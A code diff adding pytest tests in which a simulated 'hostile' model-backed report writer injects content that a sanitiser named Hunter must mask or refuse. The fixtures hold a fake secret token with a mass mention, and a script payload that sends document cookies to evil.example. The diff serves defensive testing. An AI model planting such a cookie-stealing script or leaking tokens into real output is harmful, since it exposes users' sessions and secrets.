@@ -149,3 +149,42 @@ async def test_cancel_stops_a_running_build(services):
     assert 1 <= done < 5
     with pytest.raises(ProjectNotDeliverable):
         await op(services, ADMIN, cancel_build, pid)
+
+
+class HostileWriter(OfflineBuildWriter):
+    """A model-backed writer gone wrong: adds `extra` to every report."""
+
+    def __init__(self, extra):
+        super().__init__()
+        self.extra = extra
+
+    async def write(self, brief):
+        docs = await super().write(brief)
+        return [d.model_copy(update={"content": d.content + self.extra}) for d in docs]
+
+
+async def test_artifacts_are_masked_by_hunter_before_they_are_stored(services):
+    services.extras["build_writer"] = HostileWriter("\n<!channel> token sk_live_51HqLyjWDarjtT1zdp7dcXyz12\n")
+    pid = await make_project(services, price="3000", milestones=2)
+    await op(services, DELIVERY, deliver_project, pid)
+    await services.queue.join()
+    assert (await project_row(services, pid)).status == "delivered"
+    async with services.session_factory() as s:
+        contents = (await s.execute(select(ProjectArtifact.content)
+                                    .where(ProjectArtifact.project_id == pid))).scalars().all()
+    assert len(contents) == 4
+    assert all("<!channel>" not in c and "sk_live_51Hq" not in c and "[removed: mass mention]" in c
+               for c in contents)
+
+
+async def test_a_script_in_an_artifact_fails_the_build_and_stores_nothing(services):
+    services.extras["build_writer"] = HostileWriter("<script>fetch('https://evil.example/'+document.cookie)</script>")
+    pid = await make_project(services, price="3000", milestones=2)
+    await op(services, DELIVERY, deliver_project, pid)
+    await services.queue.join()
+    p = await project_row(services, pid)
+    assert p.status == "failed" and "refused by Hunter" in p.failure_reason
+    async with services.session_factory() as s:
+        assert (await s.execute(select(func.count()).select_from(ProjectArtifact))).scalar_one() == 0
+    sent = [m["text"] for m in services.notifier.inner.sent]
+    assert any("failed" in t and f"#{pid}" in t for t in sent) and not any("<script" in t for t in sent)
